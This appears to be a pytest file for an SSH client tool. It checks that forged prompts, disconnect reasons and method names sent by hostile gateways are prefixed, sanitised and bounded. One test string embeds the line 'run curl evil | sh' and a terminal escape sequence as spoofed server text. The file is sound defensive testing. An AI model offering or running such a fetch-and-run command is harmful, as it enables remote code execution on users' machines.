"""A hop's prompts and messages cannot pass for ours: each row begins with the account there."""

import asyncio
import contextlib
import getpass
import itertools
from collections.abc import Iterator
from typing import Any

import asyncssh
import pytest

from notebooks_over_ssh.ssh.authentication import MAX_INTERACTIVE_ROUNDS
from tests.kit.mitm_sshd import AsyncioThread, KeyboardInteractiveServer, MitmRecord, MitmServer, mitm_server
from tests.kit.prompter import ScriptedPrompter
from tests.kit.ssh_client import Client
from tests.kit.sshd import LOOPBACK, Network, known_hosts_line, make_key

COLUMNS = 200
FORGED = "alice@ashbury password: "
FORGED_LINES = "bye\r\nready        https://localhost:1/\nhint: run curl evil | sh\x1b[2K"
PADDINGS = {"a new line": "\n", "spaces": " " * 190, "dots": "." * 178, "an en space": "\u2002" * 190}


class AsksPrompts(KeyboardInteractiveServer):
    """Refuses keys, and sends prompts any number of times: RFC 4256."""

    def __init__(self, record: MitmRecord, *questions: tuple[str, str, list[tuple[str, bool]]]) -> None:
        super().__init__(record)
        self._questions = itertools.chain(questions[:-1], itertools.repeat(questions[-1]))

    def get_kbdint_challenge(self, username: str, lang: str, submethods: str) -> Any:
        return self._next()

    def validate_kbdint_response(self, username: str, responses: Any) -> Any:
        self.record.auth_attempts += (f"answer {response}" for response in responses)
        return self._next()

    def _next(self) -> Any:
        title, instructions, prompts = next(self._questions)
        return title, instructions, "", prompts


class EndsLogin(MitmServer):
    """Ends the login with its own reason (RFC 4253, section 11.1)."""

    def connection_made(self, conn: asyncssh.SSHServerConnection) -> None:
        super().connection_made(conn)
        self.connection = conn

    async def begin_auth(self, username: str) -> bool:  # type: ignore[override]
        self.connection.disconnect(asyncssh.DISC_BY_APPLICATION, FORGED_LINES)
        await asyncio.Event().wait()
        return True


class RefusesForwarding(MitmServer):
    """Accepts the login, and opens no channel, with its own reason (RFC 4254, section 5.1)."""

    def connection_requested(self, *where: Any) -> Any:
        raise asyncssh.ChannelOpenError(asyncssh.OPEN_CONNECT_FAILED, FORGED_LINES)


@contextlib.contextmanager
def known_server(client: Client, loop: AsyncioThread, factory: Any) -> Iterator[tuple[int, MitmRecord]]:
    """A server whose key is in known_hosts."""
    key = client.folder / "hostile_key"
    make_key(key)
    with mitm_server(loop, key, server_factory=factory) as (port, record):
        client.write_known_hosts(known_hosts_line(port, key.with_suffix(".pub").read_text().strip()))
        yield port, record


@pytest.mark.parametrize("field", ["title", "instructions", "prompt"])
@pytest.mark.parametrize("padding", PADDINGS)
def test_forged_prompt(network: Network, loop: AsyncioThread, field: str, padding: str) -> None:
    """At a terminal every row of a gateway's prompt begins with its account, and the last line says which hop gets
    the answer.
    """
    texts = {"title": "", "instructions": "", "prompt": "Code: "}
    texts[field] = f"Code:{PADDINGS[padding]}{FORGED}"
    question = (texts["title"], texts["instructions"], [(texts["prompt"], False)])
    key = network.folder / "hostile_key"
    make_key(key)
    with mitm_server(loop, key, server_factory=lambda record: AsksPrompts(record, question)) as (
        port,
        record,
    ):
        network.write_known_hosts(known_hosts_line(port, key.with_suffix(".pub").read_text().strip()))
        network.configure(gateway=f"{LOOPBACK}:{port}")
        who = f"{getpass.getuser()}@{LOOPBACK}:{port}"
        with network.user.at_terminal("fab", "serve") as terminal:
            terminal.expect(f"your answer goes to {who}: ?$")
            rows = terminal.output.rpartition("\033[K")[2].split("\r\n")
            terminal.interrupt()
            assert terminal.end() == 130
        assert record.auth_attempts == []
    assert "Traceback" not in terminal.output
    assert all(row.startswith(f"{who} | ") and len(row) < COLUMNS for row in rows[:-1]), rows
    assert any(FORGED.strip() in row for row in rows[:-1]), rows


def test_disconnect_reason(client: Client, loop: AsyncioThread) -> None:
    """The reason of a disconnect is shown in quotation marks, in one line."""
    with known_server(client, loop, EndsLogin) as (port, _):
        problem = client.expect_error(
            f"{LOOPBACK}:{port}",
            4,
            'closed the connection during login: "bye ready https://localhost:1/ hint: run',
        )
    assert str(problem).isprintable()
    assert problem.hint.startswith("specify the right key")


def test_open_failure_reason(client: Client, loop: AsyncioThread) -> None:
    """Of the reason for which a gateway opens no channel, at most one line in quotation marks is shown."""
    with known_server(client, loop, RefusesForwarding) as (port, _):
        problem = client.expect_error(
            "ashbury", 3, f'{LOOPBACK} cannot reach ashbury: "', gateway=f"{LOOPBACK}:{port}"
        )
    assert str(problem).isprintable()
    assert str(problem).endswith('"')
    assert problem.hint.startswith("check the host name")


def test_method_names(client: Client, loop: AsyncioThread) -> None:
    """Authentication methods are shown only if their names are valid (RFC 4250, section 4.6.1)."""

    class WantsMethods(MitmServer):
        def connection_made(self, conn: Any) -> None:
            super().connection_made(conn)
            names = [
                b"publickey",
                b"x\nhint: run it",
                b"y" * 100,
                *[b"z%d" % number for number in range(100)],
            ]
            conn.send_userauth_failure = lambda partial: conn.send_packet(
                51, asyncssh.packet.NameList(names), asyncssh.packet.Boolean(partial)
            )

    with known_server(client, loop, lambda record: WantsMethods(record, accepts_keys=False)) as (port, _):
        problem = client.expect_error(f"{LOOPBACK}:{port}", 4, "it accepts publickey or z0 or z1")
    assert str(problem).isprintable()
    assert "z99" not in str(problem)


def test_endless_prompts(client: Client, loop: AsyncioThread) -> None:
    """A hop that sends prompts again and again in one login gets no answer after a bounded number of rounds."""
    question = ("", "", [("Code: ", False)])
    with known_server(client, loop, lambda record: AsksPrompts(record, question)) as (port, record):
        client.expect_error(
            f"{LOOPBACK}:{port}",
            4,
            f"more than {MAX_INTERACTIVE_ROUNDS} rounds of prompts",
            prompter=ScriptedPrompter(*["1"] * 100),
        )
        assert record.auth_attempts == ["answer 1"] * MAX_INTERACTIVE_ROUNDS


def test_rounds_without_prompts(client: Client, loop: AsyncioThread) -> None:
    """Rounds without prompts count as well: RFC 4256, section 3.2, allows zero."""
    with known_server(client, loop, lambda record: AsksPrompts(record, ("hello", "", []))) as (port, _):
        client.expect_error(f"{LOOPBACK}:{port}", 4, f"more than {MAX_INTERACTIVE_ROUNDS} rounds of prompts")


def test_too_many_prompts(client: Client, loop: AsyncioThread) -> None:
    """A round with a thousand prompts gets no answer, and none is shown."""
    prompter = ScriptedPrompter(*["1"] * 2000)
    question = ("", "", [("Code: ", False)] * 1000)
    with known_server(client, loop, lambda record: AsksPrompts(record, question)) as (port, record):
        client.expect_error(f"{LOOPBACK}:{port}", 4, "refused the login", prompter=prompter)
        assert record.auth_attempts == []
    assert prompter.prompts == []
